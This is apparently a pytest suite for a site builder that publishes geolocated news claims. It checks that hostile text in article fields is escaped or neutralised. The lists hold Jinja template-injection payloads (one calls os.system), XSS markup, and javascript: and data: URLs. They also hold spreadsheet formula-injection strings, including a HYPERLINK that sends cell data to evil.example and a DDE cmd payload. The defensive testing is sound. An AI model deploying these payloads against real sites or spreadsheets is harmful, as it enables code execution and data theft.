"""Hostile article text: template syntax, markup and URLs in every field reach the site as data only."""

from __future__ import annotations

import io
import re

import pytest

from geo.site.build import build_site
from sitehelpers import make_row, sample_rows

TEMPLATE_PAYLOADS = [
    "Agency {{ 7*7 }}",
    "Agency {{ it's }}",  # a Jinja syntax error if it were compiled
    "{% for x in range(3) %}LOOP{% endfor %}",
    "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}",
    "{# comment #}hidden",
]
MARKUP_PAYLOADS = [
    '<img src=x onerror="window.__xss=1">',
    "</script><script>window.__xss=2</script>",
    '"><svg onload=alert(1)>',
]


def _hostile_rows():
    rows = []
    for i, text in enumerate(TEMPLATE_PAYLOADS + MARKUP_PAYLOADS):
        rows.append(make_row("Testovka", article=f"h{i}", date=f"2024-02-{10 + i:02d}", source=text, title=text,
                             quote=f"Quote {text}", claimant_label=text, surface=text,
                             url="javascript:alert(1)" if i % 2 else f"data:text/html,{text}"))
    return rows


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    out = root / "site"
    refs = [{"name": p, "lat": 48.0 + i / 10, "lon": 37.0, "population": 600_000}
            for i, p in enumerate(TEMPLATE_PAYLOADS)]
    build_site(_hostile_rows(), out, reference_places=refs, title="Front {{ 6*7 }}")
    return root, out


def _html_files(out):
    return {p: p.read_text(encoding="utf-8") for p in out.rglob("*.html")}


def test_template_syntax_in_article_fields_is_never_evaluated(hostile_site):
    root, out = hostile_site
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "Agency {{ 7*7 }}" in index  # the legend's list of sources shows the text as written
    assert "Agency 49" not in index and "Front 42" not in index
    assert "LOOPLOOP" not in index
    assert "{# comment #}hidden" in index
    assert not list(root.rglob("PWNED")) and not list(out.parent.parent.rglob("PWNED"))


def test_a_template_syntax_error_in_a_source_does_not_break_later_builds(hostile_site):
    _, out = hostile_site
    report = build_site(_hostile_rows(), out)
    assert report.claims == len(TEMPLATE_PAYLOADS + MARKUP_PAYLOADS)


def test_markup_in_article_fields_is_escaped_in_every_page(hostile_site):
    _, out = hostile_site
    for path, text in _html_files(out).items():
        assert "<img src=x" not in text, path
        assert "<script>window.__xss" not in text, path
        assert "<svg onload" not in text, path


def test_hostile_urls_never_become_links(hostile_site):
    _, out = hostile_site
    for path, text in _html_files(out).items():
        hrefs = re.findall(r'href\s*=\s*["\']?([^"\' >]+)', text, flags=re.I)
        assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:"))], path


def test_data_file_cannot_close_its_script(hostile_site):
    _, out = hostile_site
    data = (out / "data.js").read_text(encoding="utf-8")
    assert "</script" not in data.lower()
    assert "Agency {{ 7*7 }}" in data  # the text is kept exact, as data


FORMULA_PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
                    "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_site_csv_neutralises_formulas_and_geojson_keeps_them(tmp_path):
    import csv
    import io
    import json

    rows = [make_row("Testovka", article=f"f{i}", date=f"2024-03-{10 + i:02d}", title=text, source=text,
                     quote=text, surface=text, claimant_label=text) for i, text in enumerate(FORMULA_PAYLOADS)]
    rows.append(make_row("Mockivka", article="neg", date="2024-03-20", lon=-35.9))
    out = tmp_path / "site"
    build_site(rows, out)
    got = list(csv.DictReader(io.StringIO((out / "claims.csv").read_bytes().decode("utf-8"), newline="")))
    cells = [v for r in got for k, v in r.items() if k not in ("lat", "lon", "geonameid", "confidence")]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_title = {r["title"]: r for r in got}
    for text in FORMULA_PAYLOADS:
        row = by_title["'" + text]
        assert row["source"] == row["quote"] == row["surface"] == row["claimant_label"] == "'" + text
    assert by_title["Report neg"]["lon"] == "-35.9"  # a number, not text: kept as it is
    features = json.loads((out / "claims.geojson").read_text(encoding="utf-8"))["features"]
    assert {f["properties"]["quote"] for f in features} >= set(FORMULA_PAYLOADS)


def test_site_and_store_write_the_same_claim_cells(tmp_path):
    """claims.csv of the site and `frontline export x.csv` are one table: same header, same cells."""
    import csv as _csv

    from geo.site import pages
    from geo.site.timeline import Timeline
    from geo.store.export import write_claims

    rows = sample_rows()
    rows[0].update(quote="=HYPERLINK(1)", source="@wire", geonames_name="Testovka")
    site = list(_csv.DictReader(io.StringIO(pages.claims_csv(Timeline(rows)))))
    with open(write_claims(rows, tmp_path / "c.csv"), encoding="utf-8", newline="") as f:
        export = list(_csv.DictReader(f))
    assert list(export[0]) == [*list(site[0])[:-4], "attribution"]  # the site adds its three columns
    assert {r["claim_id"]: {k: r[k] for k in export[0]} for r in site} == {r["claim_id"]: r for r in export}


def test_template_syntax_in_a_control_source_name_is_never_evaluated(tmp_path):
    import json as _json

    from shapely.geometry import box, mapping

    ctl = tmp_path / "ctl"
    ctl.mkdir()
    feature = {"type": "Feature", "properties": {"source": "Atlas {{ 7*7 }}"}, "geometry": mapping(box(37, 47.5, 38, 48.5))}
    (ctl / "zone_2024-01-01.geojson").write_text(_json.dumps({"type": "FeatureCollection", "features": [feature]}))
    out = tmp_path / "site"
    build_site(_hostile_rows()[:2], out, control=str(ctl), control_source="Atlas {{ 6*7 }} <b>x</b>")
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "Atlas {{ 6*7 }}" in index and "Atlas 42" not in index and "<b>x</b>" not in index


def test_sources_txt_keeps_each_article_on_one_line_without_formulas(tmp_path):
    rows = [make_row("Testovka", article="f1", source="=HYPERLINK(\"http://x\")", title="@SUM(1)\tx"),
            make_row("Primerne", article="f2", source="Wire\n  Fake credit (99)", title="+1")]
    build_site(rows, tmp_path / "site")
    text = (tmp_path / "site" / "sources.txt").read_text(encoding="utf-8")
    assert "Fake credit (99)\n" not in text  # the source's newline forged no line
    articles = text.split("Articles (published, source, title, url):\n")[1].splitlines()
    assert len(articles) == 2
    for line in articles:
        cells = line.strip().split("\t")
        assert len(cells) == 4 and not [c for c in cells if c.startswith(("=", "+", "-", "@"))], line
